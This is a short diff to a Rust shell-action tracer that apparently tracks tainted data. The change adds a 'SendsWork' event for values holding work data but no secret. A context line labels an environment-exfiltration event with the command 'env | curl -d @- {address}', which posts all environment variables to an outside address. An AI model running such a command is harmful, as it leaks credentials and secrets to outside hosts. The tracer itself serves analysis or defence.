@@ -326,6 +326,9 @@ impl Tracer {
             let addressed = TaintedValue { secret: Some(variable.clone()), ..addressed.clone() };
             self.event(ShellAction::SendsEncoded, String::new(), &addressed);
         }
+        if value.work && value.secret.is_none() {
+            self.event(ShellAction::SendsWork, String::new(), &addressed);
+        }
         if value.environment {
             self.event(ShellAction::SendsEnvironment, format!("env | curl -d @- {address}"), &addressed);
         }
